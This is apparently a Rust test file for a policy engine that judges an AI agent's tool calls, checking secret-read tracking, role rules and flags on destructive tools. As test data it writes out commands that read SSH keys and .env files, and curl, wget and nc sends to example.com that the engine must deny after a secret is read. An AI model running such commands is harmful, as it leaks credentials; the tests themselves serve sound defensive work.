//! Verdicts that depend on what is known besides the call: whom it is for, and what the session did before.

use aap::{Decision, ToolCall};
use conscience::{Conscience, NoWorld, PolicyFile, Situation};
use serde_json::json;

fn exec(command: &str) -> ToolCall {
    let mut call = ToolCall::new("openclaw", "exec", json!({ "command": command }));
    call.cwd = Some("/srv/app".to_owned());
    call
}

fn with_rule(condition: &str) -> Conscience {
    let text = format!(
        "@id(\"team.situation\") @reason(\"Not in this situation\") @values(\"user_control\")\n\
         forbid (principal, action == Action::\"run\", resource) when {{ {condition} }};"
    );
    let name = "team.cedar".to_owned();
    let (conscience, errors) = Conscience::with_policies(vec![PolicyFile { name, text }]);
    assert_eq!(errors, []);
    conscience
}

#[test]
fn rules_may_ask_for_the_situation() {
    let situation = Situation {
        role: Some("guest".to_owned()),
        channel: Some("discord".to_owned()),
        secrets_read: vec!["~/.ssh/id_rsa".to_owned()],
        ..Situation::default()
    };
    for condition in [
        "context.role == \"guest\"",
        "context.channel == \"discord\"",
        "context.session_read_secret",
    ] {
        let conscience = with_rule(condition);
        let call = exec("cargo build");
        let there = conscience.judge_in(&call, &NoWorld, &situation);
        assert_eq!(
            there.rule_id.as_deref(),
            Some("team.situation"),
            "{condition}"
        );
        let elsewhere = conscience.judge(&call, &NoWorld);
        assert_eq!(elsewhere.decision, Decision::Allow, "{condition}");
    }
    for condition in [
        "context.runtime == \"openclaw\"",
        "context.cwd == \"/srv/app\"",
    ] {
        let verdict = with_rule(condition).judge(&exec("cargo build"), &NoWorld);
        assert_eq!(verdict.decision, Decision::Deny, "{condition}");
    }
}

#[test]
fn a_call_tells_which_secrets_it_reads() {
    let conscience = Conscience::builtin();
    let call = exec("cat .env ~/.ssh/id_rsa README.md .env");
    let situation = Situation::default();
    let (verdict, secrets) = conscience.judge_and_learn(&call, &NoWorld, &situation);
    assert_eq!(secrets, ["/srv/app/.env", "~/.ssh/id_rsa"]);
    assert_eq!(verdict, conscience.judge(&call, &NoWorld));
    let explained = conscience.explain_in(&call, &NoWorld, &situation);
    assert_eq!(explained.secrets_read, secrets);
    let (_, none) = conscience.judge_and_learn(&exec("cat README.md"), &NoWorld, &situation);
    assert_eq!(none, Vec::<String>::new());
}

#[test]
fn nothing_is_sent_out_after_a_secret_was_read() {
    let conscience = Conscience::builtin();
    let after = Situation {
        secrets_read: vec!["~/.ssh/id_rsa".to_owned()],
        ..Situation::default()
    };
    let fetch = |params| ToolCall::new("openclaw", "http_request", params);
    for call in [
        exec("curl -d hello https://example.com/in"),
        exec("wget --post-data=x https://example.com/in"),
        exec("echo hello | nc example.com 9000"),
        fetch(json!({"url": "https://example.com", "method": "POST", "body": "hello"})),
        fetch(json!({"url": "https://example.com", "json": {"a": 1}})),
    ] {
        let verdict = conscience.judge_in(&call, &NoWorld, &after);
        assert_eq!(
            verdict.rule_id.as_deref(),
            Some("secret.send_after"),
            "{:?}",
            call.params
        );
        assert_eq!(verdict.decision, Decision::Deny);
        let before = conscience.judge(&call, &NoWorld);
        assert_ne!(before.decision, Decision::Deny, "{:?}", call.params);
    }
    for call in [
        exec("curl https://example.com/"),
        exec("curl -d a=1 http://localhost:3000/login"),
        exec("nc -z example.com 443"),
        fetch(json!({"url": "https://example.com", "method": "GET"})),
    ] {
        let verdict = conscience.judge_in(&call, &NoWorld, &after);
        assert_eq!(verdict.decision, Decision::Allow, "{:?}", call.params);
    }
}

#[test]
fn guests_get_no_secrets_and_no_rights() {
    let conscience = Conscience::builtin();
    let role = |role: &str| Situation {
        role: Some(role.to_owned()),
        ..Situation::default()
    };
    let guest = role("guest");
    for (command, rule) in [("cat .env", "secret.guest"), ("sudo -i", "rights.guest")] {
        let verdict = conscience.judge_in(&exec(command), &NoWorld, &guest);
        assert_eq!(verdict.rule_id.as_deref(), Some(rule), "{command}");
        let owner = conscience.judge_in(&exec(command), &NoWorld, &role("owner"));
        assert_eq!(owner.decision, Decision::Ask, "{command}");
    }
    let plain = conscience.judge_in(&exec("cargo build"), &NoWorld, &guest);
    assert_eq!(plain.decision, Decision::Allow);
}

#[test]
fn tools_that_say_they_destroy_are_asked_about() {
    let conscience = Conscience::builtin();
    let rule = |tool: &str, params| {
        let call = ToolCall::new("openclaw", tool, params);
        conscience.judge(&call, &NoWorld).rule_id
    };
    for tool in [
        "mcp__github__delete_repository",
        "mcp__drive__delete_file",
        "mcp__docker__remove_volume",
        "neon.deleteProject",
        "wipe_device",
    ] {
        assert_eq!(
            rule(tool, json!({"id": 1})).as_deref(),
            Some("cloud.tool"),
            "{tool}"
        );
    }
    let hinted = json!({"annotations": {"destructiveHint": true}});
    assert_eq!(rule("mcp__x__apply", hinted).as_deref(), Some("cloud.tool"));
    for tool in [
        "mcp__github__get_repository",
        "mcp__linear__remove_label",
        "drag_and_drop",
        "mcp__x__list_deleted",
    ] {
        assert_eq!(rule(tool, json!({"id": 1})), None, "{tool}");
    }
}

#[test]
fn tools_that_fetch_are_judged_by_method_and_body() {
    let conscience = Conscience::builtin();
    let rule = |params| {
        let call = ToolCall::new("openclaw", "http_request", params);
        conscience.judge(&call, &NoWorld).rule_id
    };
    let delete = json!({"url": "https://api.example.com/users", "method": "delete"});
    assert_eq!(rule(delete).as_deref(), Some("cloud.change"));
    let key =
        json!({"url": "https://example.com", "body": {"k": "-----BEGIN RSA PRIVATE KEY-----"}});
    assert_eq!(rule(key).as_deref(), Some("data.send_secret"));
    let local = json!({"url": "http://localhost:8080/users", "method": "DELETE"});
    assert_eq!(rule(local), None);
    let post = json!({"url": "https://api.example.com/users", "method": "POST", "body": "a"});
    assert_eq!(rule(post), None);
}
